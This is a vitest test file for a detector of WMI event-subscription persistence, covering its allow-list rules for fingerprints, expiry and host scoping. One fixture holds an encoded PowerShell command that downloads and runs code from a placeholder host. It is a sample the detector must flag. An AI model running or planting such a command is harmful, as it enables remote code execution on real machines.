import { expect, test } from 'vitest'
import { judge } from '../judge/index.ts'
import { fingerprintOf } from '../known-good/index.ts'
import type { SubscriptionFacts } from '../model.ts'
import { isExpired, parseAllowList, printAllowList } from './index.ts'

const facts = (template: string, change: Partial<SubscriptionFacts> = {}): SubscriptionFacts => ({
  id: 'x',
  host: 'PRINT-01',
  namespace: 'root\\subscription',
  filter: { name: 'F', query: "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'a.exe'" },
  consumer: { class: 'CommandLineEventConsumer', name: 'C', properties: { CommandLineTemplate: template } },
  binding: {},
  complete: true,
  state: 'bound',
  sightings: [],
  observations: [],
  flags: {},
  ...change,
})

const listFor = (subscription: SubscriptionFacts, more = ''): string =>
  `allow:\n  - fingerprint: ${fingerprintOf(subscription)?.full}\n    owner: IT\n    reason: print audit\n    expires: 2030-01-31\n${more}`
const now = '2029-01-01T00:00:00Z'
const ours = facts('C:\\Users\\Public\\audit.exe')

test('an entry makes the very subscription known-good, tells who said so, and the score still adds up', () => {
  const allow = parseAllowList(listFor(ours), 'allow.yaml')
  const judgement = judge(ours, { allow, now })
  expect(judgement).toMatchObject({
    verdict: 'known-good',
    severity: 'informational',
    allowed: { owner: 'IT', expires: '2030-01-31' },
  })
  expect(judgement.reasons.reduce((sum, reason) => sum + reason.weight, 0)).toBe(judgement.score)
})

test('other content under the same names is not covered', () => {
  const allow = parseAllowList(listFor(ours), 'allow.yaml')
  expect(judge(facts('C:\\Users\\Public\\other.exe'), { allow, now }).verdict).toBe('suspicious')
})

test('an expired entry covers nothing and says so', () => {
  const allow = parseAllowList(listFor(ours), 'allow.yaml')
  const judgement = judge(ours, { allow, now: '2030-02-01T00:00:00Z' })
  expect(judgement.verdict).toBe('suspicious')
  expect(judgement.reasons.map((reason) => reason.id)).toContain('allow/expired')
  const entry = allow.entries[0]
  expect(entry !== undefined && isExpired(entry, '2030-01-31T23:00:00Z')).toBe(false)
})

test('an entry for some hosts covers no other', () => {
  const allow = parseAllowList(listFor(ours, '    hosts: ["print-*"]\n'), 'allow.yaml')
  expect(judge(ours, { allow, now }).verdict).toBe('known-good')
  expect(judge({ ...ours, host: 'DC01' }, { allow, now }).verdict).toBe('suspicious')
})

test.each([
  [
    'a payload that unpacks code',
    facts(
      'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGIALwBjACcAKQA=',
    ),
  ],
  ['code outside root\\subscription', facts('C:\\Users\\Public\\a.exe', { namespace: 'root\\default' })],
  [
    'a stock name',
    facts('C:\\Tools\\a.exe', {
      filter: { name: 'SCM Event Log Filter', query: 'select * from MSFT_SCMEventLogEvent' },
    }),
  ],
])('no list silences %s', (_, subscription) => {
  const judgement = judge(subscription, { allow: parseAllowList(listFor(subscription), 'allow.yaml'), now })
  expect(judgement.verdict).toBe('malicious')
  expect(judgement.reasons.map((reason) => reason.id)).toContain('allow/refused')
})

test('printing and parsing gives the same list', () => {
  const list = parseAllowList(listFor(ours, '    hosts: ["print-*"]\n    ticket: CHG-1\n'), 'a')
  expect(parseAllowList(printAllowList(list), 'a')).toEqual(list)
})

test.each([
  ['allow: 1', 'list'],
  ['allow: [1]', 'mapping'],
  ['allow:\n  - fingerprint: abc\n    owner: a\n    reason: b\n    expires: 2030-01-01', '64 hex'],
  [`allow:\n  - fingerprint: ${'a'.repeat(64)}\n    reason: b\n    expires: 2030-01-01`, 'owner'],
  [`allow:\n  - fingerprint: ${'a'.repeat(64)}\n    owner: a\n    reason: b`, 'expires'],
  [`allow:\n  - fingerprint: ${'a'.repeat(64)}\n    owner: a\n    reason: b\n    expires: never`, 'expires'],
  ['a: [', 'allow.yaml'],
])("a list that would silence on nobody's word is refused (%#)", (text, words) => {
  expect(() => parseAllowList(text, 'allow.yaml')).toThrow(words)
})
